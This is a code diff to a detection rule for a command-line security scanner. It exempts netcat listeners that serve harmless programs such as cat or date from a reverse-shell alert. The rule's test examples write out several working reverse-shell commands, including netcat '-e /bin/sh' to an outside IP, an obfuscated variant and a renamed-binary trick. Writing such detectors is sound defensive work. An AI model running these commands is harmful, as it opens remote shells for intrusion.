@@ -358,6 +358,9 @@ function commandStrings(i: AnalysisInput): string[] {
   return out;
 }
 
+/** Programs that serve a fixed or echoed answer on a connection, in netcat's test servers; no shell. */
+const ECHO_PROGRAMS = new Set(['cat', 'echo', 'date', 'yes', 'true', 'tee', 'hostname', 'uptime']);
+
 export const RULES: readonly Rule[] = [
   {
     id: 'PX-C2-001', name: 'reverse-shell-dev-tcp', score: 95, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
@@ -378,14 +381,17 @@ export const RULES: readonly Rule[] = [
       const a = c.argv;
       const execFlag = a.findIndex((w, i) => i > 0 && (w === '--exec' || w === '--sh-exec' || w === '--lua-exec' || w.startsWith('--exec=') || w.startsWith('--sh-exec=')));
       if (NETCATS.has(c.name) || c.name === 'busybox' || standsFor(a[0]!, NETCATS)) {
-        if (execFlag > 0 || hasShortFlag(c, 'e') || a.some((w, i) => w === '-c' && (isShellWord(a[i + 1]) || standsFor(a[i + 1] ?? '', SHELLS)))) return a.join(' ');
+        // a plain utility on the connection is an echo or time server (`ncat -lk 127.0.0.1 7000 --exec /bin/cat`)
+        const attached = execFlag > 0 ? (a[execFlag]!.includes('=') ? a[execFlag]!.slice(a[execFlag]!.indexOf('=') + 1) : a[execFlag + 1]) : a[a.findIndex((w, i) => i > 0 && /^-[a-zA-Z]*e$/.test(w)) + 1];
+        const harmless = attached !== undefined && !a[execFlag]?.startsWith('--sh-exec') && !a[execFlag]?.startsWith('--lua-exec') && ECHO_PROGRAMS.has(baseName(attached));
+        if (!harmless && (execFlag > 0 || hasShortFlag(c, 'e') || a.some((w, i) => w === '-c' && (isShellWord(a[i + 1]) || standsFor(a[i + 1] ?? '', SHELLS))))) return a.join(' ');
         return undefined;
       }
       // a renamed netcat (`cp /bin/nc /tmp/.x; /tmp/.x -e /bin/sh host port`)
       const e = a.indexOf('-e');
       return e > 0 && (isShellWord(a[e + 1]) || standsFor(a[e + 1] ?? '', SHELLS)) && a.some((w) => destinationOf(w) !== undefined) && a.some((w) => /^\d{2,5}$/.test(w)) ? a.join(' ') : undefined;
     },
-    examples: { fire: ['nc -e /bin/sh 45.33.12.7 4444', '/usr/bin/ncat 10.0.0.5 443 --ssl --sh-exec "bash -i"', 'nc -lvnp 4444 -e /bin/bash', "n''c -c bash 45.33.12.7 4444", 'cp /bin/nc /tmp/.s; /tmp/.s -e /bin/sh 45.33.12.7 4444'], quiet: ['nc -z localhost 5432', 'nc -vz db.internal 3306', 'ncat --version', 'echo PING | nc localhost 6379'] },
+    examples: { fire: ['nc -e /bin/sh 45.33.12.7 4444', '/usr/bin/ncat 10.0.0.5 443 --ssl --sh-exec "bash -i"', 'nc -lvnp 4444 -e /bin/bash', "n''c -c bash 45.33.12.7 4444", 'cp /bin/nc /tmp/.s; /tmp/.s -e /bin/sh 45.33.12.7 4444'], quiet: ['nc -z localhost 5432', 'nc -vz db.internal 3306', 'ncat --version', 'echo PING | nc localhost 6379', 'ncat -lvk 127.0.0.1 7000 --exec /bin/cat', 'ncat -l 8081 -k -e /bin/date'] },
   },
   {
     id: 'PX-C2-003', name: 'shell-piped-through-socket', score: 90, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
